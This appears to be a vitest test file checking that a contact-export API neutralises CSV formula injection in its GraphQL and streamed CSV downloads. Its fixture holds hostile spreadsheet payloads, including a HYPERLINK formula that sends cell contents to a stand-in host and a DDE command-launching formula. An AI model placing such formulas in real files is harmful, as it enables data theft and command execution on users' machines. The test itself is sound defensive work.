/**
 * CSV formula injection (issue 15): a cell a spreadsheet would evaluate (starting with `=`, `+`, `-`, `@`, a tab or
 * a carriage return: the OWASP rule) is written with a leading `'`, so that it opens as text, in every CSV the
 * export writes: the GraphQL export and the streamed HTTP download. Other cells are written as they are.
 */
import { createRequire } from 'node:module';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../platform/http/start-server.js';
import { issueToken } from '../../identity/token.js';
import { createApiHarness, type ApiHarness } from '../../testing/api.js';
import { describeEachDatabase } from '../../testing/databases.js';

const serverRequire = createRequire(import.meta.url);
const { parse } = serverRequire('csv-parse/sync') as {
  parse: (text: string, options: object) => Record<string, string>[];
};
const parseCsv = (text: string) => parse(text, { delimiter: ';', bom: true, columns: true, relax_column_count: false });

/** Values that spreadsheets evaluate, by column, and a harmless one. */
const hostile = {
  lastName: '=HYPERLINK("http://evil.example/?"&A1;"click")',
  firstName: "+1+cmd|' /C calc'!A0",
  companyName: '-2+3',
  jobTitle: '@SUM(1;1)',
  addressLine1: '\t=1+1',
  addressLine2: '\r=1+1',
  city: 'Paris',
};

describeEachDatabase('export: CSV formula injection', (provider) => {
  let h: ApiHarness;
  let server: RunningServer;
  const columns = ['lastName', 'firstName', 'companyName', 'jobTitle', 'addressLine1', 'addressLine2', 'city', 'email'];

  beforeAll(async () => {
    h = await createApiHarness(provider, { purposes: true });
    server = await startServer({ db: h.t.db, provider, port: 0 });
    const c = await h.t.db.contact.create({
      data: { kind: 'CLIENT', brandId: h.brands.a, zoneId: h.zones.north, ...hostile, email: 'hostile@exemple.fr' },
    });
    await h.consent(c.id, 'newsletter');
  });
  afterAll(async () => {
    await server?.close();
    await h?.drop();
  });

  const expectNeutralised = (rows: Record<string, string>[]) => {
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    for (const [column, value] of Object.entries(hostile)) {
      expect(row[column], column).toBe(column === 'city' ? value : `'${value}`);
    }
    expect(row.email).toBe('hostile@exemple.fr');
  };

  it('neutralises formula cells in the GraphQL export', async () => {
    const r = await h.as('MARKETING', 'newsletter')(
      `query($columns: [String!]) { exportContacts(format: CSV, columns: $columns) { contentBase64 rowCount } }`,
      { columns },
    );
    expect(r.errors).toBeUndefined();
    expectNeutralised(parseCsv(Buffer.from(r.data.exportContacts.contentBase64, 'base64').toString('utf8')));
  });

  it('neutralises formula cells in the streamed download', async () => {
    const token = (await issueToken(h.users.MARKETING)).token;
    const res = await fetch(`${server.url}/export/contacts?format=csv&columns=${columns.join(',')}`, {
      headers: { authorization: `Bearer ${token}`, 'x-fidele-purpose': 'newsletter' },
    });
    expect(res.status).toBe(200);
    expectNeutralised(parseCsv(await res.text()));
  });
});
